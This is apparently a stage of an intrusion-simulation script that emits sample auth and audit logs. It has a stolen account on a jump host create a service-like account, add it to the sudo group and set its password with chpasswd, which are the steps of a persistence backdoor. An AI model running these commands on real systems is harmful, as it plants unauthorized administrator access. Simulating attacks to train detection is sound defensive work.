# A new account with administrator rights, named to look like a service.

begin_stage new-admin 5 hts-jump1 "$THIEF" "$STOLEN_ACCOUNT" 'A new privileged account'
{
  sleep 1.5
  say "sudo useradd -m -s /bin/bash $NEW_ACCOUNT" \
    jump1:auth "COMMAND=/usr/sbin/useradd -m -s /bin/bash $NEW_ACCOUNT" jump1:auth "new user: name=$NEW_ACCOUNT" \
    jump1:audit 'op=adding user id=41100 exe="/usr/sbin/useradd"' \
    jump1:audit "op=adding group acct=\"$NEW_ACCOUNT\""
  say "sudo usermod -aG sudo $NEW_ACCOUNT" \
    jump1:auth "COMMAND=/usr/sbin/usermod -aG sudo $NEW_ACCOUNT" jump1:auth "add '$NEW_ACCOUNT' to group 'sudo'" \
    jump1:audit "op=adding user to group acct=\"$NEW_ACCOUNT\""
  say "echo '$NEW_ACCOUNT:$NEW_PASSWORD' | sudo chpasswd" jump1:auth "password changed for $NEW_ACCOUNT"
  hush exit
} | from_outside "$THIEF" "$STOLEN_ACCOUNT" "$STOLEN_PASSWORD" "$JUMP" || true
end_stage
